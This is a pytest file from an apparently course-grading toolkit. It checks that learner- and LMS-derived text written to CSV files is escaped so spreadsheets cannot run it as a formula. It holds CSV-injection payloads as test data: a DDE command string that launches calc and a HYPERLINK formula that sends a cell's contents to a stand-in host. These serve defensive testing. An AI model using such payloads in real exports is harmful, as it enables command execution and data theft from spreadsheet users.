"""Every CSV the kit writes opens in a spreadsheet as text: no cell of a learner's or an LMS's words runs as a formula."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import resumable_core
from resumable_core.course.grading import csvfile
from resumable_core.course.grading.steps import report
from resumable_core.course.grading.steps.collect import collect
from resumable_core.course.grading.steps.lms import Names, write_imports

NB = b'{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}'
FORMULA = '=HYPERLINK("http:x.example?"&A1,"click")'


def test_a_cell_that_could_start_a_formula_is_text_and_a_number_stays_a_number():
    """=, +, -, @, tab and CR (after spaces too) get a leading '; ints, floats and numeric texts such as -2 do not."""
    for bad in ("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "  =1+1", "-cmd|' /C calc'!A0"):
        assert csvfile.cell(bad) == "'" + bad
    for kept in ("-2", "1.5e-3", "29", -2, 1.5, "ann", "a = b", "", None):
        assert csvfile.cell(kept) == kept


def test_no_module_writes_csv_but_the_one_writer():
    """Only csvfile.py makes a csv.writer or a DictWriter: every CSV the grading writes goes through its cells."""
    writers = re.compile(r"csv\.(writer|DictWriter)\b")
    found = [
        p.name
        for p in Path(resumable_core.__file__).parent.rglob("*.py")
        if writers.search(p.read_text(encoding="utf-8"))
    ]
    assert found == ["csvfile.py"]


def test_a_refused_file_name_is_text_in_grades_csv(tmp_path):
    """A flat file named like a formula is refused under its own name, which grades.csv's student_id shows as text."""
    (tmp_path / "class").mkdir()
    (tmp_path / "class" / f"{FORMULA}.ipynb").write_bytes(NB)
    (sub,) = collect(tmp_path / "class", "reconcile", ["reconcile"])
    assert sub.status == "invalid" and sub.student.startswith("=")
    report.write_csv(tmp_path / "grades.csv", [sub])
    (row,) = list(csv.DictReader((tmp_path / "grades.csv").open(encoding="utf-8")))
    assert row["student_id"] == f"'{FORMULA}.ipynb" and row["score"] == "0"


def test_the_moodle_import_shows_a_display_name_as_text_and_a_negative_score_as_a_number(tmp_path):
    """Moodle's worksheet: a formula in the display name is text; a score of -1 is still -1."""
    root = tmp_path / "m"
    (root / "=cmd_234567_assignsubmission_file_").mkdir(parents=True)
    (root / "=cmd_234567_assignsubmission_file_" / "reconcile.ipynb").write_bytes(NB)
    (sub,) = collect(root, "reconcile", ["reconcile"], Names("moodle"))
    sub.status, sub.score, sub.max_score = "graded", -1, 29
    (path,) = write_imports(tmp_path, "reconcile", [sub]).paths
    (row,) = list(csv.DictReader(path.open(encoding="utf-8")))
    assert row["Full name"] == "'=cmd" and row["Grade"] == "-1"
